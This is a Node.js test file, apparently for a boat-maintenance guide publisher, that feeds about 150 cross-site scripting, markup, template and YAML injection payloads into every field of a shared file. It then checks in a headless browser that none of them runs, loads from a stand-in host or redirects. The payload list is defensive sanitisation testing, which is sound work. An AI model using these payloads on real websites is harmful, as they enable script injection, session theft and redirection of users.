// Guides of another boat made to run a script, to load something or to lead away: every payload in every
// text of a shared file, received where the program takes it, published, and opened with traps. Nothing may
// run, no request may leave the folder, nothing may open or go elsewhere.
//
// The payloads are of the publicly known families (from memory): event handlers, foreign schemes and their
// disguises, frames, forms, refresh, base, styles, markup that a parser mends into something else, Markdown
// links and images, templates, YAML. `T` is what tells that one ran.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { chromium } from "playwright-core";
import { program } from "./phone.mjs";

const T = "window.__ran=1";
const AWAY = "https://away.example/x";

const handlers = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "onbegin", "ontoggle", "onstart", "onpageshow", "onanimationstart", "onpointerenter", "oncontentvisibilityautostatechange"];
const elements = ["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee", "object data=x", "select autofocus", "style", "math"];
const schemes = ["javascript:", "JaVaScRiPt:", " javascript:", "java\\tscript:", "java&#10;script:", "&#106;avascript:", "&#x6A;avascript:", "javascript&colon;", "\\x01javascript:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=", "view-source:javascript:", "feed:javascript:", "jar:javascript:", "livescript:", "mocha:", "file:///etc/passwd#"];

/** Every payload; most say `T`, the rest would ask for AWAY. */
const PAYLOADS = [
  `<script>${T}</script>`, `<SCRIPT>${T}</SCRIPT>`, `<script src=${AWAY}.js></script>`, `<scr<script>ipt>${T}</scr</script>ipt>`, `</script><script>${T}</script>`,
  `"><script>${T}</script>`, `'><script>${T}</script>`, `--><script>${T}</script>`, `]]><script>${T}</script>`, `</title><script>${T}</script>`,
  `</textarea><script>${T}</script>`, `</style><script>${T}</script>`, `</noscript><script>${T}</script>`, `<script type=module>${T}</script>`, `<script>/*</script><script>*/${T}</script>`,
  `\\u003cscript>${T}\\u003c/script>`, `%3Cscript%3E${T}%3C/script%3E`, `&lt;script&gt;${T}&lt;/script&gt;`, `+ADw-script+AD4-${T}+ADw-/script+AD4-`, `＜script＞${T}＜/script＞`,
  ...elements.flatMap((element, at) => [`<${element} ${handlers[at]}=${T}>`, `"><${element} ${handlers[(at + 1) % handlers.length]}="${T}" x="`]),
  ...handlers.flatMap((handler) => [`" ${handler}="${T}" x="`, `' ${handler}='${T}' x='`, `x ${handler}=${T} `, `<svg/${handler}=${T}>`, `<svg><animate ${handler}=${T} attributeName=x dur=1s>`]),
  ...schemes.flatMap((scheme) => [`[go](${scheme}${T})`, `[go](<${scheme}${T}>)`, `![go](${scheme}${T})`, `<a href="${scheme}${T}">go</a>`]),
  `[go][r]\n\n[r]: javascript:${T}`, `[go](x "\\" onmouseover=\\"${T}")`, `![a\\" onerror=\\"${T}](x.png)`, `<javascript:${T}>`, `[a](https://ok.example/"onmouseover="${T})`,
  `![x](${AWAY}.png)`, `![x](//away.example/x.png)`, "```html\"onmouseover=\"" + T + "\n<script>" + T + "</script>\n```", "```\" onclick=\"" + T + "\nx\n```", "`<img src=x onerror=" + T + ">`",
  `<iframe src="javascript:${T}"></iframe>`, `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`, `<iframe src=${AWAY}></iframe>`, `<frameset onload=${T}>`, `<embed src="javascript:${T}">`,
  `<object data="data:text/html,<script>top.__ran=1</script>"></object>`, `<applet code=x>`, `<form action="javascript:${T}"><button>go</button></form>`, `<form action=${AWAY}><input type=submit autofocus>`, `<button formaction="javascript:${T}">go</button>`,
  `<isindex action=javascript:${T} type=submit>`, `<meta http-equiv=refresh content="0;url=${AWAY}">`, `<meta http-equiv="refresh" content="0;javascript:${T}">`, `<base href="${AWAY}/">`, `<link rel=stylesheet href=${AWAY}.css>`,
  `<link rel=prefetch href=${AWAY}>`, `<link rel=import href=${AWAY}>`, `<style>@import '${AWAY}.css';</style>`, `<style>*{background:url(${AWAY})}</style>`, `" style="background:url(${AWAY})" x="`,
  `<div style="width:expression(${T})">`, `<div style="behavior:url(${AWAY})">`, `<div style=-moz-binding:url(${AWAY})>`, `<table background=${AWAY}>`, `<video poster=${AWAY}>`, `<img srcset="${AWAY} 2x">`, `<picture><source srcset=${AWAY}><img></picture>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${T}>`, `<noscript><p title="</noscript><img src=x onerror=${T}>">`, `<svg><style><img src=x onerror=${T}></style>`, `<template><img src=x onerror=${T}></template>`, `<svg><foreignObject><body onload=${T}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${T}>#x"/></svg>`, `<svg><a xlink:href="javascript:${T}"><text y=9>x</text></a>`, `<svg><set attributeName=onload to=${T}>`, `<svg><script>${T}</script>`, `<svg><image href=${AWAY}>`,
  `<math href="javascript:${T}">x</math>`, `<select><noembed></select><script>${T}</script>`, `<xmp></xmp><script>${T}</script>`, `<plaintext><script>${T}</script>`, `<table><td><svg><desc><td></desc></svg><img src=x onerror=${T}>`,
  `<!--><img src=x onerror=${T}>-->`, `<!--[if IE]><script>${T}</script><![endif]-->`, `<![CDATA[<img src=x onerror=${T}>]]>`, `<?xml-stylesheet href="javascript:${T}"?>`, `<!DOCTYPE x [<!ENTITY y "${T}">]>&y;`,
  `{{ 7 * 7 }}`, `{% include "frame.html" %}`, `{{ __tera_context }}`, `{% raw %}<script>${T}</script>{% endraw %}`, `\${${T}}`, `#{${T}}`, `<%= ${T} %>`, `{{constructor.constructor('${T}')()}}`, `{"__proto__":{"__ran":1}}`,
  `!!js/function 'function(){${T}}'`, `x\n---\n<script>${T}</script>`, `x: y\n  z: [`, `*alias`, `&anchor x`, `\u0000<script>${T}</script>`, `\u2028<script>${T}</script>`, `\u202e<script>${T}</script>`, `\\"};${T};//`, `';${T};//`, `*/${T}/*`, `</span></main></body></html><script>${T}</script>`,
  "x".repeat(5000) + `<img src=x onerror=${T}>`, `<a id=garboard href=x>`, `<form id=garboard name=part>`, `<img name=getElementById>`, `<a href=https://ok.example ping=${AWAY}>x</a>`, `<a target=_blank href=${AWAY}>x</a>`,
];

/** A text in double quotes of YAML: every sign stays what it is. */
const quoted = (text) => JSON.stringify(text);
const flat = (text) => text.replace(/\s+/g, " ");

/** The texts of a shared file, each a function that puts a payload there. */
const FRONT = {
  title: (p) => `title: ${quoted(p)}\n`, summary: (p) => `title: t\nsummary: ${quoted(p)}\n`, safety: (p) => `title: t\nsafety: [${quoted(p)}]\n`,
  conditions: (p) => `title: t\nconditions: [${quoted(p)}]\n`, wear: (p) => `title: t\nwear: [${quoted(p)}]\n`, dispose: (p) => `title: t\ndispose: [${quoted(p)}]\n`,
  tool: (p) => `title: t\ntools: [${quoted(p)}]\n`, part: (p) => `title: t\nparts: [{item: ${quoted(p)}}]\n`,
  "torque at": (p) => `title: t\ntorque: [{at: ${quoted("a " + p)}, value: 35 N·m}]\n`, "torque source": (p) => `title: t\ntorque: [{at: bolt, value: 35 N·m, source: ${quoted(p)}}]\n`,
  "value name": (p) => `title: t\nvalues: {${quoted("a " + p)}: 5 L}\n`, "value words": (p) => `title: t\nvalues: {fill: ${quoted("as " + p)}}\n`,
  "reading name": (p) => `title: t\nreadings: {${quoted("a " + p)}: {unit: bar, limits: 1..2}}\n`, "reading when": (p) => `title: t\nreadings: {oil: {unit: bar, when: ${quoted(p)}, at: [${quoted(p)}]}}\n`,
  licence: (p) => `title: t\nlicence: ${quoted(p)}\n`, source: (p) => `title: t\nsource: ${quoted(p)}\n`, "applies-to": (p) => `title: t\napplies-to: ${quoted(p)}\n`,
  meter: (p) => `title: t\nevery: {${quoted("m " + p)}: 100 h, calendar: 1 year}\n`, gear: (p) => `title: t\nfor: [${quoted(p)}]\n`, occasion: (p) => `title: t\noccasions: [${quoted(p)}]\n`,
  covers: (p) => `title: t\ncovers: [${quoted(p)}]\n`, hazard: (p) => `title: t\nhazards: [${quoted(p)}]\n`,
};
const BODY = {
  intro: (p) => `${p}\n\n## Work\n\n1. Do it.\n`, step: (p) => `## Work\n\n1. Do ${flat(p)} it.\n`, "stage heading": (p) => `## Work ${flat(p)}\n\n1. Do it.\n`,
  caution: (p) => `## Work\n\n1. Do it.\n\n   > WARNING: Mind ${flat(p)} well.\n`, "picture alt": (p) => `## Work\n\n1. Do it.\n\n   ![${flat(p)}](ID/p.png)\n`,
  "picture title": (p) => `## Work\n\n1. Do it.\n\n   ![x](ID/p.png "${flat(p)}")\n`, "link title": (p) => `## Work\n\n1. [Do](https://ok.example/ "${flat(p)}") it.\n`,
  "link target": (p) => `## Work\n\n1. [Do](<${flat(p)}>) it.\n`, "code fence": (p) => `\`\`\`${flat(p).replace(/`/g, "")}\ncode\n\`\`\`\n\n## Work\n\n1. Do it.\n`, code: (p) => `\`\`\`\n${p}\n\`\`\`\n\n## Work\n\n1. Do it.\n`,
  table: (p) => `| a | b |\n| - | - |\n| ${flat(p)} | x |\n\n## Work\n\n1. Do it.\n`, footnote: (p) => `See[^1].\n\n[^1]: ${flat(p)}\n\n## Work\n\n1. Do it.\n`,
  isolation: (p) => `## Work\n\n1. Shut it. {isolate ${flat(p).replace(/[{}]/g, "")}} {restore ${flat(p).replace(/[{}]/g, "")}}\n`, prove: (p) => `## Work\n\n1. Try it. {prove ${flat(p).replace(/[{}]/g, "")}}\n`,
};
const RECORDS = {
  "store title": (p, id) => ({ stores: [{ id, title: p }] }), "part number": (p, id) => ({ stores: [{ id, title: "t", "part-number": p }] }), "store note": (p, id) => ({ stores: [{ id, title: "t", note: p, "also-fits": [p] }] }),
  "tool title": (p, id) => ({ tools: [{ id, title: p }] }),
  "hazard title": (p, id) => ({ cautions: [{ id, title: p, signal: "danger", harm: "h", avoid: ["a"] }] }),
  "hazard harm": (p, id) => ({ cautions: [{ id, title: "t", signal: "danger", harm: p, avoid: [p], defer: p, words: [p] }] }),
};
const ABOUT = { "boat name": (p) => ({ from: { boat: p.slice(0, 110), type: null } }), "boat type": (p) => ({ from: { boat: "Tern", type: p } }), "licence of the boat": (p) => ({ licence: p }), "system title": (p) => ({ systems: [{ id: "rigging", title: p.slice(0, 110) }] }) };

const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
const guide = (id, system, front, body) => ({ id, system, path: `guides/${system}/${id}.md`, text: `---\n${front}---\n${body.replaceAll("ID/", `${id}/`)}` });
const held = (more) => ({ format: "garboard-guides", version: 1, from: { boat: "Tern", type: null }, language: "en", units: "metric", licence: null, made: "garboard 0.1.0", guides: [], systems: [], meters: [], stores: [], tools: [], cautions: [], pictures: [], ...more });
const page = (data) => `<!DOCTYPE html><title>x</title><script type="application/json" id="garboard-guides">${JSON.stringify(data).replaceAll("<", "\\u003c")}</script>`;

let folder, browser;
let tried = 0, taken = 0;

before(async () => {
  folder = mkdtempSync(join(tmpdir(), "garboard-receive-"));
  const begun = spawnSync(program, ["begin", "boat"], { cwd: folder, encoding: "utf8" });
  assert.equal(begun.status, 0, begun.stderr);
  browser = await chromium.launch({ executablePath: process.env.CHROMIUM || "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking"] });
});
after(async () => {
  await browser.close();
  rmSync(folder, { recursive: true });
});

/** Receives a file; how many guides came in. Ends by itself, whatever it holds. */
function receive(data) {
  writeFileSync(join(folder, "shared.html"), page(data));
  const run = spawnSync(program, ["receive", "shared.html", "--book", "boat/content", "--yes", "--on", "2026-11-29"], { cwd: folder, encoding: "utf8", maxBuffer: 64e6 });
  assert.ok(run.status === 0 || run.status === 1, `${run.status}: ${run.stderr}`);
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(run.stderr + run.stdout, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|panicked/);
  return run.stdout.split("\n").filter((line) => line.startsWith("received ")).length;
}

/** A payload in every text of the guides: for each field as many files as the limit of guides asks for. */
function everywhere() {
  const guides = [];
  const pictures = [];
  const add = (field, at, front, body) => {
    const id = `${field.replaceAll(" ", "-")}-${at}`;
    guides.push(guide(id, "engine", front, body));
    if (body.includes("ID/p.png")) pictures.push({ path: `guides/engine/${id}/p.png`, type: "image/png", bytes: PNG });
  };
  PAYLOADS.forEach((payload, at) => {
    for (const [field, front] of Object.entries(FRONT)) add(field, at, front(payload), "## Work\n\n1. Do it.\n");
    for (const [field, body] of Object.entries(BODY)) add(field, at, "title: t\n", body(payload));
  });
  tried += guides.length;
  for (let from = 0; from < guides.length; from += 480) {
    const some = guides.slice(from, from + 480);
    taken += receive(held({ guides: some, pictures: pictures.filter((one) => some.some((each) => one.path.includes(`/${each.id}/`))) }));
  }
  // Records, many to a file, each named by the guide that comes with them.
  for (const [field, record] of Object.entries(RECORDS)) {
    const all = PAYLOADS.map((payload, at) => record(payload, `${field.replaceAll(" ", "-")}-${at}`));
    tried += all.length;
    const joined = (key) => all.flatMap((one) => one[key] || []);
    const name = field.replaceAll(" ", "-");
    const hazards = joined("cautions").map((one) => one.id).join(", ");
    const parts = joined("stores").map((one) => `{item: ${one.id}}`).join(", ");
    const tools = joined("tools").map((one) => one.id).join(", ");
    taken += receive(held({ guides: [guide(`all-${name}`, "engine", `title: t\nhazards: [${hazards}]\nparts: [${parts}]\ntools: [${tools}]\n`, "## Work\n\n1. Do it.\n")], stores: joined("stores"), tools: joined("tools"), cautions: joined("cautions") }));
  }
  // What stands for a whole file: one file each.
  for (const [field, about] of Object.entries(ABOUT)) {
    PAYLOADS.forEach((payload, at) => {
      tried += 1;
      taken += receive(held({ ...about(payload), guides: [guide(`${field.replaceAll(" ", "-")}-${at}`, "rigging", `title: ${field} ${at}\n`, "## Work\n\n1. Do it.\n")] }));
    });
  }
}

test("no payload in any text of a shared file runs, loads or leads away", { timeout: 600_000 }, async () => {
  assert.ok(new Set(PAYLOADS).size >= 150, `${PAYLOADS.length} payloads`);
  everywhere();
  assert.ok(taken > 500, `only ${taken} came in`);
  const published = spawnSync(program, ["publish", "--book", "boat/content", "--on", "2026-11-29"], { cwd: folder, encoding: "utf8", maxBuffer: 64e6 });
  assert.equal(published.status, 0, published.stderr.slice(0, 3000));
  const site = join(folder, "boat/site");
  const inside = pathToFileURL(site).href;
  const context = await browser.newContext({ viewport: { width: 390, height: 844 } });
  const trouble = [];
  let path = "";
  await context.exposeFunction("__caught", (what) => { trouble.push(`${path}: ${what}`); });
  await context.addInitScript(() => {
    for (const name of ["alert", "confirm", "prompt", "open", "print"]) window[name] = () => window.__caught(name);
    Object.defineProperty(window, "__ran", { set: () => window.__caught("a payload ran"), get: () => undefined });
  });
  context.on("page", (page) => { if (path) trouble.push(`${path}: another page was opened: ${page.url()}`); });
  const page = await context.newPage();
  page.on("dialog", (dialog) => { trouble.push(`${path}: a dialog`); void dialog.dismiss(); });
  page.on("pageerror", (error) => trouble.push(`${path}: script error: ${error.message}`));
  page.on("request", (request) => { if (!request.url().startsWith(inside) && !request.url().startsWith("data:image/")) trouble.push(`${path}: request ${request.url()}`); });
  await page.route(/^(?!file:|data:)/, (route) => route.abort());
  const pages = ["index.html", "guides.html", "stores.html", "tools.html", "cautions.html", "gear.html", "about.html", "search.html", "systems/engine.html", "systems/rigging.html",
    ...readdirSync(join(site, "guides")).map((name) => `guides/${name}`)].filter((name) => existsSync(join(site, name)));
  assert.ok(pages.length > 500, `${pages.length} pages`);
  for (path of pages) {
    await page.goto(pathToFileURL(join(site, path)).href, { waitUntil: "load" });
    const odd = await page.evaluate(() => {
      const all = Array.from(document.querySelectorAll("main *, header *, footer *"));
      const handler = all.find((one) => Array.from(one.attributes).some((each) => each.name.startsWith("on") || /^\s*(java|vb)script:|^\s*data:(?!image\/)/i.test(each.value.replace(/[\u0000-\u0020]/g, ""))));
      const element = all.find((one) => ["IFRAME", "OBJECT", "EMBED", "BASE", "META", "LINK", "FRAME", "APPLET", "MARQUEE"].includes(one.tagName) || (one.tagName === "SCRIPT" && one.type !== "application/json"));
      // What a pointer would set off.
      for (const one of document.querySelectorAll("main a, main h3, main li")) one.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
      return (handler || element || { outerHTML: "" }).outerHTML.slice(0, 300);
    });
    if (odd) trouble.push(`${path}: ${odd}`);
    if (page.url() !== pathToFileURL(join(site, path)).href) trouble.push(`${path}: went to ${page.url()}`);
  }
  path = "";
  await context.close();
  assert.deepEqual(trouble, []);
  // Not one of the templates was reckoned with.
  assert.ok(!pages.some((name) => name.startsWith("guides/title-") && /<h1[^>]*>49</.test(readFileSync(join(site, name), "utf8"))));
  console.log(`${tried} hostile inputs tried (${PAYLOADS.length} payloads), ${taken} guides taken as plain words on ${pages.length} pages, 0 got through`);
});
